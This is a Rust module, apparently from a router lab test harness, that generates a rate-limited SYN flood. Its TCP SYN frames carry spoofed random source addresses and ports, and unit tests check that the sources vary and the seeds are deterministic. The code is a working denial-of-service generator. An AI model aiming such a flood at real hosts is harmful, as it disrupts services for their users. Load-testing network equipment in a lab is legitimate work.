//! A SYN flood: a bounded rate of SYNs for a bounded time, each from an address and a port that nobody has.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

use anyhow::Result;

use super::frames::Frames;
use crate::packet::{Frame, Mac};

/// Frames sent in one go; half of what [`Frames::send`] sends without a pause of its own.
const BURST: u32 = 16;
/// Delay that is made good for. A longer one is not: the queues on the way would take no such burst.
const LATE: Duration = Duration::from_millis(5);

/// Frames to be sent. They are made before, so that the processor is the router's while they are.
#[derive(Debug)]
pub struct Flood {
    frames: Vec<Vec<u8>>,
    rate: u32,
}

impl Flood {
    /// `count` SYNs to `target` at `rate` a second, in frames with these `[from, to]` addresses. `seed` chooses the
    /// sources: the same in every run, and others for another seed.
    pub fn new(target: SocketAddrV4, [from, to]: [Mac; 2], rate: u32, count: u32, seed: u64) -> Self {
        let mut random = Random(seed);
        let frame = |random: &mut Random| {
            let syn = Frame::tcp(random.source(), target).flags("S").numbers(random.next() as u32, 0);
            // The one option that every SYN has: the segment size (RFC 9293 3.7.1).
            syn.tcp_options(&[2, 4, 0x05, 0xb4]).link(from, to).bytes()
        };
        Self { frames: (0..count).map(|_| frame(&mut random)).collect(), rate }
    }

    /// Sends all of it; returns how long that took, which is longer than planned where the machine is busy.
    ///
    /// # Errors
    /// When the kernel refuses a frame.
    pub fn send(&self, frames: &Frames) -> Result<Duration> {
        let (begin, step) = (Instant::now(), Duration::from_secs(1) * BURST / self.rate);
        let mut due = begin;
        for burst in self.frames.chunks(BURST as usize) {
            let now = Instant::now();
            due = due.max(now.checked_sub(LATE).unwrap_or(now));
            thread::sleep(due.saturating_duration_since(now));
            frames.send(burst)?;
            due += step;
        }
        Ok(begin.elapsed())
    }
}

/// The generator splitmix64: the same numbers in every run.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// A source far from the lab: 11.0.0.0 to 110.255.255.255, and a port that a client would have.
    fn source(&mut self) -> SocketAddrV4 {
        let [first, b, c, d, high, low, ..] = self.next().to_be_bytes();
        let port = u16::from_be_bytes([high, low]) | 0x8000;
        SocketAddrV4::new(Ipv4Addr::new(11 + first % 100, b, c, d), port)
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn nearly_every_syn_has_a_source_of_its_own() {
        let mut random = Random(1);
        let sources: BTreeSet<_> = (0..10_000).map(|_| random.source()).collect();
        assert!(sources.len() > 9_990);
        assert!(sources.iter().all(|source| source.port() >= 1024 && !source.ip().is_loopback()));
    }

    #[test]
    fn seeds_make_different_floods() {
        let flood =
            |seed| Flood::new(SocketAddrV4::new(Ipv4Addr::LOCALHOST, 1), [[0; 6]; 2], 1, 3, seed).frames;
        assert_eq!(flood(1), flood(1));
        assert_ne!(flood(1), flood(2));
        assert_eq!(flood(1)[0].len(), 14 + 20 + 24);
    }
}
